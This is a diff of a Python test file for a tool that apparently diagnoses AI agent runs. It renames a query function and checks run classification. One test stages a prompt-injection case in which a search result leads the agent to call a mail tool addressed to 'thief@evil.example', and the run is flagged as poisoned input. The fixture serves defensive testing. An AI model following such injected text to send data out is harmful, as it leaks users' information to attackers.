@@ -9,7 +9,7 @@ import pytest
 from flyball.errors import NotFound
 from flyball.model.run import Step
 from flyball.queries.ports import Ports
-from flyball.queries.what_happened import RUNS_MAX, error_shape, what_happened
+from flyball.queries.what_happened import RUNS_MAX, error_shape, told_of
 from harness.clock import ManualClock
 from harness.made_runs import history, model, normal, run, tool
 
@@ -42,7 +42,7 @@ def ports() -> Ports:
 async def test_a_run_is_held_against_the_runs_of_its_agent_before_it(ports: Ports) -> None:
     steps = normal(70)
     reader = Reader(steps)
-    view = await what_happened(ports, steps[0].run_id, reader=reader)
+    view = await told_of(ports, steps[0].run_id, reader=reader)
     assert (view.kind, view.agent, view.runs_before) == ("nothing wrong", "helper", 12)
     assert reader.asked == ("helper", steps[0].begin_ns, RUNS_MAX)
     assert all(one.spans for one in view.ruled_out)
@@ -51,7 +51,7 @@ async def test_a_run_is_held_against_the_runs_of_its_agent_before_it(ports: Port
 async def test_what_an_attacker_wrote_is_shown_without_links_images_or_markup(ports: Ports) -> None:
     act = tool("mail", arguments='{"to": "thief@evil.example"}', result="sent")
     steps = run(70, model(), tool("search", arguments="q", result=PAGE), act, model("Done.", "stop"))
-    view = await what_happened(ports, steps[0].run_id, reader=Reader(steps))
+    view = await told_of(ports, steps[0].run_id, reader=Reader(steps))
     assert view.kind == "poisoned input"
     told = " ".join(
         [view.root_cause.text if view.root_cause else "", *(one.text for one in view.explanation)]
@@ -63,7 +63,7 @@ async def test_what_an_attacker_wrote_is_shown_without_links_images_or_markup(po
 
 async def test_a_run_that_is_not_stored_is_not_found(ports: Ports) -> None:
     with pytest.raises(NotFound, match="no run"):
-        await what_happened(ports, "f" * 32, reader=Reader(()))
+        await told_of(ports, "f" * 32, reader=Reader(()))
 
 
 def test_errors_are_told_apart_by_their_masks() -> None:
